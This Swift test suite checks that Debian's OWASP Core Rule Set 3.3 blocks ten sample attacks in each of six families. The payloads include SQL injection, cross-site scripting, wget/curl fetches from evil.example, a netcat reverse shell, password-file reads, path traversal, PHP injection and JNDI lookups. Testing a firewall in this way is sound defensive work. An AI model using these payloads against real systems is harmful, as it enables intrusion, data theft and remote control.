// The OWASP Core Rule Set 3.3 as Debian's package has it, unmodified: does it stop what everybody knows?

import Diagnostics
import Foundation
import Testing

@testable import SecLang
@testable import WAF

/// Where Debian's package keeps its rules.
private enum DebianRules {
    static let folder = "/usr/share/modsecurity-crs/rules"
    static var isInstalled: Bool { FileManager.default.fileExists(atPath: "\(folder)/REQUEST-901-INITIALIZATION.conf") }
}

@Suite("Debian's Core Rule Set 3.3", .enabled(if: DebianRules.isInstalled, "modsecurity-crs is not installed"))
struct CoreRuleSet3Tests {
    private static let compiled: RuleSet? = {
        guard DebianRules.isInstalled else { return nil }
        let syntax = RuleSetReader.read(["/etc/modsecurity/crs/crs-setup.conf", "\(DebianRules.folder)/*.conf"])
        guard syntax.isUsable else { return nil }
        let (ruleSet, diagnostics) = RuleCompiler.compile(syntax.directives, resources: .files())
        return diagnostics.contains { $0.severity == .error } ? nil : ruleSet
    }()

    /// Ten of each family, as values of an argument.
    static let families: [(family: String, values: [String])] = [
        (
            "SQL injection",
            [
                "1' or '1'='1", "1; DROP TABLE users--", "' UNION SELECT username, password FROM users--",
                "1 AND SLEEP(5)", "admin'--", "1' AND 1=CONVERT(int,(SELECT @@version))--", "' or 1=1#",
                "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "'; EXEC xp_cmdshell('dir');--",
                "1 UNION ALL SELECT NULL,NULL,CONCAT(user(),0x3a,version())",
            ]
        ),
        (
            "cross-site scripting",
            [
                "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
                "<body onload=alert('x')>", "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"javascript:alert(document.cookie)\">x</a>", "\"><script>document.location='//evil'</script>",
                "<input autofocus onfocus=alert(1)>", "<object data=\"javascript:alert(1)\"></object>",
                "<style>@import 'javascript:alert(1)';</style>",
            ]
        ),
        (
            "command execution",
            [
                "; cat /etc/passwd", "| /bin/bash -i", "`wget http://evil.example/x.sh`",
                "$(curl http://evil.example/x)",
                "; nc -e /bin/sh 10.0.0.1 4444", "&& /usr/bin/id", "; uname -a", "| powershell -enc aGVsbG8=",
                "() { :;}; /bin/cat /etc/passwd", "; python -c 'import os'",
            ]
        ),
        (
            "local files",
            [
                "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/proc/self/environ", "../../.htaccess", "/var/log/../../etc/passwd",
                "..%c0%af..%c0%afetc/passwd", "../../../../boot.ini",
            ]
        ),
        (
            "remote files and PHP",
            [
                "http://10.0.0.1/shell.php?", "<?php system('id'); ?>", "php://input",
                "data://text/plain;base64,PD9waHA=",
                "phar://x.phar", "eval(base64_decode('x'))", "system('whoami')", "passthru('ls')", "expect://id",
                "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            ]
        ),
        (
            "Java",
            [
                "java.lang.Runtime.getRuntime().exec('id')", "${jndi:ldap://evil.example/a}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}", "java.lang.ProcessBuilder",
                "java.lang.Class.forName('java.lang.Runtime')",
                "${jndi:rmi://evil.example/a}", "com.opensymphony.xwork2.dispatcher",
                "org.apache.commons.collections.Transformer",
                "${jndi:dns://evil.example}", "javax.script.ScriptEngineManager",
            ]
        ),
    ]

    private func percentEncoded(_ text: String) -> String {
        text.utf8.map { byte in
            let isPlain = (0x30...0x39).contains(byte) || (0x41...0x5A).contains(byte) || (0x61...0x7A).contains(byte)
            return isPlain ? String(UnicodeScalar(byte)) : "%" + (byte < 16 ? "0" : "") + String(byte, radix: 16)
        }.joined()
    }

    private func probe(_ target: String) -> Probe {
        var probe = Probe()
        probe.target = target
        probe.headers = [
            ("Host", "shop.example.com"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"),
            ("Accept", "text/html,*/*;q=0.8"),
        ]
        return probe
    }

    @Test("it compiles without an error, and every attack of a family of ten is ended", arguments: families)
    func attacks(_ family: (family: String, values: [String])) throws {
        let ruleSet = try #require(Self.compiled)
        #expect(family.values.count == 10)
        let transaction = Transaction(ruleSet, persistent: PersistentVariables())
        for value in family.values {
            transaction.reset()
            let interruption = probe("/search?q=\(percentEncoded(value))").run(transaction)
            #expect(interruption?.action == .deny(status: 403), "\(family.family): \(value)")
        }
    }

    @Test(
        "honest requests are not ended",
        arguments: [
            "/", "/products/item/4711", "/search?q=blue+shoes&page=2&sort=price", "/about/us.html", "/img/logo.png?v=3",
            "/search?q=rock+and+roll", "/a?name=O%27Reilly", "/docs/%C3%A4pfel",
        ])
    func honest(_ target: String) throws {
        let ruleSet = try #require(Self.compiled)
        let transaction = Transaction(ruleSet, persistent: PersistentVariables())
        #expect(probe(target).run(transaction) == nil)
    }
}
